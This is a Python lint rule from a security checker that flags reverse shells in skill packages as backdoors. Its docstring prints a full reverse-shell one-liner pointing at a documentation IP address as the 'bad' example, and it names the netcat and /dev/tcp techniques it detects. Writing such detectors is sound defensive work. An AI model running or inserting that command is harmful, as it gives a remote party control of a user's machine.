"""A shell for another person."""

from collections.abc import Iterator

from skillkit.finding import Finding, Severity
from skillkit.lint.place import at_fact
from skillkit.lint.rule import rule
from skillkit.model.skill import Skill
from skillkit.security.extract import facts
from skillkit.security.facts import Kind


@rule(severity=Severity.WARNING, company_wide=Severity.ERROR)
def reverse_shell(skill: Skill) -> Iterator[Finding]:
    """A shell is connected to another host.

    The person at the other end types commands on the user's machine, with all of the user's rights. No skill needs
    this. Reported in shell (`/dev/tcp`, `nc -e`, a named pipe) and in scripts that connect a socket to a shell.

    Source: https://attack.mitre.org/techniques/T1059/004/

    ~~~~ bad
    ```bash
    bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
    ```
    ~~~~

    ~~~~ good
    ```bash
    nc -zv db.example.com 5432
    ```
    ~~~~
    """
    for fact in facts(skill):
        if fact.kind is Kind.BACKDOOR:
            yield at_fact(skill, fact, f"a shell is connected to {fact.what}", "remove it, and ask who wrote it")
